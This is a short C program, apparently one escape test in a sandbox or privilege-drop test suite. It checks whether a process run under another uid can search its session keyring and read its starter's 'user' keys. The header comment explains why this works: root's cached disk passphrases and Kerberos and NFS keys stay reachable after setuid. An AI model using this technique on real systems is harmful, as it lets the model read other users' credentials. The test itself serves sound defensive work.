/* cred_keyring.c: a program run as another user (systrace -c UID:GID) reads its starter's
 * secrets from the kernel's keyrings.
 *
 * A session keyring is inherited through fork and exec and survives setuid: a process
 * *possesses* every key it can reach from its session keyring, and a key's possessor
 * permissions (a "user" key: all of them) do not look at uids.  So a program that root drops
 * to nobody, in a process that kept root's session keyring (pam_keyinit gives every login one,
 * with root's user keyring linked in: cached disk passphrases, kerberos and NFS/CIFS keys),
 * reads root's keys as if it were root.
 *
 *   cred_keyring DESCRIPTION   search the session keyring for the "user" key DESCRIPTION and
 *                              read it: ESCAPED when it holds the secret.
 */
#include "attack.h"

#define KEY_SPEC_SESSION_KEYRING (-3)
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: cred_keyring DESCRIPTION\n");
        return 2;
    }
    printf("note: uid %d euid %d\n", (int)getuid(), (int)geteuid());
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[1], 0);
    if (key < 0) {
        if (errno == ENOSYS)
            skipped("no keyctl here");
        blocked("search: %s", ename(errno));
    }
    char buf[256] = {0};
    long n = syscall(SYS_keyctl, KEYCTL_READ, key, buf, sizeof buf - 1);
    if (n < 0)
        blocked("read of key %ld: %s", key, ename(errno));
    if (strstr(buf, SECRET_MAGIC))
        escaped("read the starter's key %ld as uid %d: %s", key, (int)getuid(), buf);
    blocked("key %ld holds no secret", key);
}
